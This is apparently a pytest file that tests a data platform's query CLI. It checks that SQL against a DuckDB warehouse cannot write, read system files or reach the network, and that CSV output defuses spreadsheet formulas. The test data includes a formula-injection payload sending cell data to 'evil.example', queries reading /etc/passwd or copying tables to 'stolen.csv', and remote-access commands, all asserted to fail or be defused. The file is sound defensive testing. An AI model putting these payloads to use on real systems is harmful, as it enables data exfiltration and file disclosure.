"""What a query may do, and what leaves the platform as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

from orchestration import analyst
from orchestration.analyst import defused
from orchestration.cli import app

ATTACK = '=HYPERLINK("https://evil.example?"&A1)'
FORMULAS = (ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1")
TEXTS = (*FORMULAS, "plain", "a=b", "-0.5", "+1e3", "", "'x", "a\r=1")
DEFUSED = (*(f"'{text}" for text in FORMULAS), *TEXTS[len(FORMULAS) :])


@pytest.fixture
def warehouse(home):
    """A published file with a table and a macro, and rows that a spreadsheet would run."""
    home.published.mkdir(parents=True)
    with duckdb.connect(home.warehouse) as connection:
        connection.execute('create table facts (id int, label varchar, value double, "=name" varchar)')
        connection.executemany("insert into facts values (?, ?, -1.5, 'x')", [*enumerate(TEXTS)])
        connection.execute("create macro facts_as_of(moment) as table select * from facts where id < 3")
    return home


def a87(*arguments: str):
    return CliRunner().invoke(app, list(arguments))


# --- what a query cannot do ------------------------------------------------------------------------------------------


REFUSED = (
    "copy facts to '{folder}/stolen.csv'",
    "copy facts to '{folder}/stolen.parquet'",
    "export database '{folder}/stolen'",
    "from read_csv('/etc/passwd')",
    "from '/etc/passwd'",
    "from read_text('/etc/passwd')",
    "from glob('/etc/*')",
    "from read_parquet('https://example.org/x.parquet')",
    "from 's3://bucket/x.parquet'",
    "attach '{folder}/other.duckdb'",
    "install httpfs",
    "load httpfs",
    "set enable_external_access = true",
    "set lock_configuration = false",
    "set memory_limit = '90GB'",
    "reset threads",
    "pragma threads = 64",
    "pragma enable_profiling",
    "set temp_directory = '{folder}'",
    "create secret s (type s3, key_id 'a', secret 'b')",
    "insert into facts values (9, '', 1, '')",
    "delete from facts",
    "create table more as select 1",
    "drop table facts",
    "select 1; copy facts to '{folder}/stolen.csv'",
)


def test_sql_of_anybody_can_only_read_the_warehouse(warehouse, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    with analyst.open_warehouse(warehouse) as connection:
        for sql in REFUSED:
            with pytest.raises(duckdb.Error):
                connection.execute(sql.format(folder=outside))
                pytest.fail(f"went through: {sql}")
        assert connection.execute("select count(*) from facts").fetchall() == [(len(TEXTS),)]
    assert list(outside.iterdir()) == []


def test_a_name_of_this_program_is_no_table(warehouse):
    frame = pd.DataFrame({"secret": [1]})  # noqa: F841  # DuckDB finds it by its name
    assert duckdb.sql("select secret from frame").fetchall() == [(1,)]
    with analyst.open_warehouse(warehouse) as connection, pytest.raises(duckdb.CatalogException):
        connection.execute("from frame")


@pytest.mark.parametrize("sql", ["drop table facts", "copy facts to '{folder}/stolen.csv'", "from '/etc/passwd'"])
def test_what_a_query_may_not_do_is_told(warehouse, tmp_path, sql):
    done = a87("query", sql.format(folder=tmp_path))
    assert (done.exit_code, done.stdout) == (1, "")
    assert "query failed" in done.stderr
    assert not (tmp_path / "stolen.csv").exists()


def test_ordinary_queries_and_macros_work(warehouse):
    assert a87("query", "select max(id) as n from facts_as_of(timestamp '2026-01-01')").stdout == "n\n2\n"
    assert a87("query", "with t as (from facts) select sum(value) as s from t").stdout == f"s\n{-1.5 * len(TEXTS)}\n"


def test_a_query_cannot_take_the_machine(warehouse, monkeypatch):
    with analyst.open_warehouse(warehouse) as connection:
        settings = "select name, value from duckdb_settings() where name in ('threads', 'memory_limit')"
        assert dict(connection.execute(settings).fetchall()) == {"threads": "2", "memory_limit": "953.6 MiB"}
    monkeypatch.setattr(analyst, "MEMORY", "30MB")
    with analyst.open_warehouse(warehouse) as connection, pytest.raises(duckdb.OutOfMemoryException):
        connection.execute("select list(range) from range(10_000_000)").fetchone()


@pytest.mark.parametrize("output", ["table", "json"])
def test_what_is_held_at_once_is_bounded(warehouse, monkeypatch, output):
    monkeypatch.setattr(analyst, "MOST_ROWS", 5)
    done = a87("query", "select id from facts", "--format", output)
    assert done.exit_code == 2
    assert "more than 5 rows" in done.output
    assert a87("query", "select id from facts", "--format", "csv").exit_code == 0


# --- formulas --------------------------------------------------------------------------------------------------------


def test_a_text_that_begins_like_a_formula_is_defused_in_csv(warehouse):
    text = a87("query", 'select label, value, "=name" from facts order by id', "--format", "csv").stdout
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == ["label", "value", "'=name"]
    assert [row[0] for row in rows] == list(DEFUSED)
    assert {row[1] for row in rows} == {"-1.5"}  # numbers stay numbers


def test_json_holds_what_was_delivered(warehouse):
    told = json.loads(a87("query", "select label from facts order by id", "--format", "json").stdout)
    assert [row["label"] for row in told] == list(TEXTS)


def test_files_as_of_a_day_are_defused_as_csv_and_untouched_as_parquet(tmp_path: Path):
    with duckdb.connect() as connection:
        connection.execute("create table t (id int, label varchar, value double)")
        connection.executemany("insert into t values (?, ?, -1.5)", [*enumerate(TEXTS)])
        for suffix in (".csv", ".parquet"):
            analyst.copy_rows(connection, "from t order by id", tmp_path / f"t{suffix}")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as stream:
        header, *rows = csv.reader(stream)
    assert header == ["id", "label", "value"]
    assert [row[1] for row in rows] == list(DEFUSED)
    assert {row[2] for row in rows} == {"-1.5"}
    kept = duckdb.sql(f"select label from '{tmp_path / 't.parquet'}' order by id").fetchall()
    assert [label for (label,) in kept] == list(TEXTS)


@pytest.mark.parametrize("cell", [-1.5, None, True, ["=1"], b"=1"])
def test_only_texts_are_defused(cell):
    assert defused(cell) is cell


def test_a_table_shows_control_characters_and_obeys_none(warehouse):
    done = a87("query", "select 'a' || chr(27) || '[2J' as text", "--format", "table")
    assert "a\ufffd[2J" in done.stdout
